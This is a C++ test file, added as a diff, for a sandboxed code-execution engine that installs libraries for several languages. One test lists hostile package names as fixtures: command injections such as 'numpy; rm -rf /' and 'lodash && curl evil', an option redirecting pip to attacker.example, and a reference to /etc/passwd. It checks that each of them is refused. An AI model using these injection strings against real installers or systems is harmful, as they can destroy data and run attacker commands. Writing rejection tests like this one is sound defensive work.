@@ -1,0 +1,217 @@
+// Libraries installed on demand, for real: JavaScript from the npm registry, the other
+// package managers from local sources the tests make (built inside sandboxes, so the host
+// needs nothing), and names that could inject options or commands refused up front.
+#include "DockerTestSupport.h"
+
+#include "session/ExecutionEngine.h"
+
+#include <QDir>
+#include <QFile>
+#include <QFileInfo>
+#include <QTemporaryDir>
+
+#include <gtest/gtest.h>
+
+using namespace sandbox;
+using namespace std::chrono_literals;
+
+namespace {
+
+/// Sets an environment variable for one scope.
+class ScopedVariable final
+{
+public:
+    ScopedVariable(const char *name, const QString &value) : m_name(name) { qputenv(name, value.toUtf8()); }
+    ~ScopedVariable() { qunsetenv(m_name); }
+
+private:
+    const char *m_name;
+};
+
+class LibrariesTest : public ::testing::Test
+{
+protected:
+    Result<RunResult> run(const QString &language, const QString &code, const QStringList &libraries)
+    {
+        RunRequest request;
+        request.language = language;
+        request.code = code;
+        request.libraries = libraries;
+        request.timeout = 120s;
+        return m_engine->run(request);
+    }
+
+    /// Runs `code` in a sandbox and saves what it wrote to its output folder under `folder`.
+    void makeFixture(const QString &language, const QString &code, const QString &folder)
+    {
+        auto result = run(language, code, {});
+        ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
+        ASSERT_EQ(result->exitCode, 0) << result->stderrData.toStdString();
+        ASSERT_FALSE(result->artifacts.isEmpty());
+        for (const Artifact &artifact : result->artifacts) {
+            const QString path = QDir(folder).filePath(artifact.name);
+            QDir().mkpath(QFileInfo(path).path());
+            QFile file(path);
+            ASSERT_TRUE(file.open(QIODevice::WriteOnly));
+            file.write(artifact.data);
+        }
+    }
+
+    std::unique_ptr<ExecutionEngine> m_engine = test::dockerEngine();
+    QTemporaryDir m_offline;
+};
+
+const char *const kNoNetworkCheck = "import os\nprint(sorted(os.listdir('/sys/class/net')))\n";
+
+} // namespace
+
+TEST_F(LibrariesTest, javascriptInstallsFromTheNpmRegistryAndRunsWithoutNetwork)
+{
+    auto result = run("javascript",
+                      "const isNumber = require('is-number');\n"
+                      "console.log(isNumber(5), isNumber('five'));\n"
+                      "console.log(require('fs').readdirSync('/sys/class/net').join(','));\n",
+                      {"is-number@7.0.0"});
+    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
+    EXPECT_EQ(result->stdoutData, "true false\nlo\n") << result->stderrData.toStdString();
+}
+
+TEST_F(LibrariesTest, pythonInstallsAWheelFromAnOfflineFolder)
+{
+    makeFixture("python",
+                "import os, zipfile\n"
+                "out = os.environ['LLM_SANDBOX_OUTPUT_DIR']\n"
+                "with zipfile.ZipFile(os.path.join(out, 'llmsb_greeter-1.0-py3-none-any.whl'), 'w') as whl:\n"
+                "    whl.writestr('llmsb_greeter/__init__.py', 'def greet(n):\\n    return \"hello \" + n\\n')\n"
+                "    whl.writestr('llmsb_greeter-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: llmsb-greeter\\nVersion: 1.0\\n')\n"
+                "    whl.writestr('llmsb_greeter-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n"
+                "    whl.writestr('llmsb_greeter-1.0.dist-info/RECORD', '')\n",
+                m_offline.path());
+    ScopedVariable offline("LLM_SANDBOX_PIP_OFFLINE_DIR", m_offline.path());
+    auto result = run("python", QString("import llmsb_greeter\nprint(llmsb_greeter.greet('wheel'))\n") + kNoNetworkCheck,
+                      {"llmsb_greeter==1.0"});
+    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
+    EXPECT_EQ(result->stdoutData, "hello wheel\n['lo']\n") << result->stderrData.toStdString();
+}
+
+TEST_F(LibrariesTest, rubyInstallsAGemFromAnOfflineFolder)
+{
+    makeFixture("ruby",
+                "require 'rubygems/package'\nrequire 'fileutils'\n"
+                "Dir.mkdir('/tmp/gem'); Dir.chdir('/tmp/gem')\nDir.mkdir('lib')\n"
+                "File.write('lib/llmsb_greeter.rb', \"module LlmsbGreeter\\n  def self.greet(n) = \\\"hello \\#{n}\\\"\\nend\\n\")\n"
+                "spec = Gem::Specification.new do |s|\n  s.name = 'llmsb_greeter'; s.version = '1.0.0'; s.summary = 'test'\n"
+                "  s.authors = ['test']; s.files = ['lib/llmsb_greeter.rb']\nend\n"
+                "FileUtils.mv(Gem::Package.build(spec), ENV['LLM_SANDBOX_OUTPUT_DIR'])\n",
+                m_offline.path());
+    ScopedVariable offline("LLM_SANDBOX_GEM_OFFLINE_DIR", m_offline.path());
+    auto result = run("ruby", "require 'llmsb_greeter'\nputs LlmsbGreeter.greet('gem')\n", {"llmsb_greeter"});
+    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
+    EXPECT_EQ(result->stdoutData, "hello gem\n") << result->stderrData.toStdString();
+}
+
+TEST_F(LibrariesTest, rInstallsASourcePackageFromAnOfflineFolder)
+{
+    makeFixture("r",
+                "dir <- '/tmp/llmsbgreeter'\ndir.create(file.path(dir, 'R'), recursive = TRUE)\n"
+                "writeLines(c('Package: llmsbgreeter', 'Version: 1.0', 'Title: Test', 'Description: Test.',\n"
+                "  'Authors@R: person(\"T\", \"T\", email = \"t@example.com\", role = c(\"aut\", \"cre\"))',\n"
+                "  'License: MIT'), file.path(dir, 'DESCRIPTION'))\n"
+                "writeLines('export(greet)', file.path(dir, 'NAMESPACE'))\n"
+                "writeLines('greet <- function(n) paste(\"hello\", n)', file.path(dir, 'R', 'greet.R'))\n"
+                "setwd(Sys.getenv('LLM_SANDBOX_OUTPUT_DIR'))\n"
+                "stopifnot(system2(file.path(R.home('bin'), 'R'), c('CMD', 'build', '--no-manual', dir)) == 0)\n",
+                m_offline.path());
+    ScopedVariable offline("LLM_SANDBOX_R_OFFLINE_DIR", m_offline.path());
+    auto result = run("r", "library(llmsbgreeter)\ncat(greet('R'), '\\n')\n", {"llmsbgreeter"});
+    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
+    EXPECT_EQ(result->stdoutData, "hello R \n") << result->stderrData.toStdString();
+}
+
+TEST_F(LibrariesTest, goInstallsAModuleFromAnOfflineProxyFolder)
+{
+    makeFixture("python",
+                "import os, zipfile\n"
+                "base = os.path.join(os.environ['LLM_SANDBOX_OUTPUT_DIR'], 'example.com/greeter/@v')\n"
+                "os.makedirs(base)\n"
+                "open(os.path.join(base, 'list'), 'w').write('v1.0.0\\n')\n"
+                "open(os.path.join(base, 'v1.0.0.info'), 'w').write('{\"Version\":\"v1.0.0\"}')\n"
+                "mod = 'module example.com/greeter\\n\\ngo 1.19\\n'\n"
+                "open(os.path.join(base, 'v1.0.0.mod'), 'w').write(mod)\n"
+                "with zipfile.ZipFile(os.path.join(base, 'v1.0.0.zip'), 'w') as z:\n"
+                "    z.writestr('example.com/greeter@v1.0.0/go.mod', mod)\n"
+                "    z.writestr('example.com/greeter@v1.0.0/greeter.go', 'package greeter\\n\\nfunc Greet(n string) string { return \"hello \" + n }\\n')\n",
+                m_offline.path());
+    ScopedVariable offline("LLM_SANDBOX_GO_OFFLINE_DIR", m_offline.path());
+    auto result = run("go",
+                      "package main\n\nimport (\n\t\"fmt\"\n\t\"example.com/greeter\"\n)\n\n"
+                      "func main() { fmt.Println(greeter.Greet(\"go\")) }\n",
+                      {"example.com/greeter@v1.0.0"});
+    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
+    EXPECT_EQ(result->stdoutData, "hello go\n") << result->stderrData.toStdString();
+}
+
+TEST_F(LibrariesTest, javaPutsAJarFromALocalMavenRepositoryOnTheClasspath)
+{
+    makeFixture("java",
+                "import java.io.*;\nimport java.nio.file.*;\nimport java.util.jar.*;\nimport javax.tools.*;\n"
+                "public class MakeJar {\n  public static void main(String[] a) throws Exception {\n"
+                "    Path src = Files.createDirectories(Path.of(\"/tmp/src/org/example\"));\n"
+                "    Files.writeString(src.resolve(\"Greeter.java\"), \"package org.example; public class Greeter { "
+                "public static String greet(String n) { return \\\"hello \\\" + n; } }\");\n"
+                "    if (ToolProvider.getSystemJavaCompiler().run(null, null, null, \"-d\", \"/tmp/classes\", "
+                "src.resolve(\"Greeter.java\").toString()) != 0) System.exit(1);\n"
+                "    Path dir = Files.createDirectories(Path.of(System.getenv(\"LLM_SANDBOX_OUTPUT_DIR\"), "
+                "\"org/example/greeter/1.0\"));\n"
+                "    try (JarOutputStream jar = new JarOutputStream(new FileOutputStream(dir.resolve(\"greeter-1.0.jar\").toFile()))) {\n"
+                "      jar.putNextEntry(new JarEntry(\"org/example/Greeter.class\"));\n"
+                "      jar.write(Files.readAllBytes(Path.of(\"/tmp/classes/org/example/Greeter.class\")));\n"
+                "    }\n  }\n}\n",
+                m_offline.path());
+    ScopedVariable offline("LLM_SANDBOX_MAVEN_OFFLINE_DIR", m_offline.path());
+    auto result = run("java",
+                      "import org.example.Greeter;\npublic class Main {\n"
+                      "  public static void main(String[] a) { System.out.println(Greeter.greet(\"java\")); }\n}\n",
+                      {"org.example:greeter:1.0"});
+    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
+    EXPECT_EQ(result->stdoutData, "hello java\n") << result->stderrData.toStdString();
+}
+
+TEST_F(LibrariesTest, namesThatCouldInjectAreRefusedBeforeAnythingRuns)
+{
+    struct Observer final : RunObserver
+    {
+        int progress = 0;
+        void runProgress(const QString &, const QString &) override { ++progress; }
+    } observer;
+    const QList<std::pair<QString, QString>> hostile = {
+        {"python", "--index-url=http://attacker.example/simple"},
+        {"python", "numpy; rm -rf /"},
+        {"javascript", "$(touch /tmp/pwned)"},
+        {"javascript", "lodash && curl evil"},
+        {"ruby", "`id`"},
+        {"r", "x'); system('id'); ('"},
+        {"go", "-modfile=/etc/passwd"},
+        {"java", "org.example:greeter:1.0 --help"},
+    };
+    for (const auto &[language, library] : hostile) {
+        RunRequest request;
+        request.language = language;
+        request.code = "1";
+        request.libraries = {library};
+        auto result = m_engine->run(request, {}, &observer);
+        ASSERT_FALSE(result.ok()) << library.toStdString();
+        EXPECT_TRUE(result.error().message.contains("not a valid")) << result.error().message.toStdString();
+    }
+    EXPECT_EQ(observer.progress, 0) << "no sandbox was started";
+}
+
+TEST_F(LibrariesTest, failedInstallNamesTheLibraryAndDoesNotRunTheCode)
+{
+    QDir(m_offline.path()).mkpath(".");
+    ScopedVariable offline("LLM_SANDBOX_PIP_OFFLINE_DIR", m_offline.path());
+    auto result = run("python", "print('must not run')", {"nonexistent-package-xyz"});
+    ASSERT_FALSE(result.ok());
+    EXPECT_TRUE(result.error().message.contains("nonexistent-package-xyz")) << result.error().message.toStdString();
+    EXPECT_TRUE(result.error().message.contains("not run")) << result.error().message.toStdString();
+}
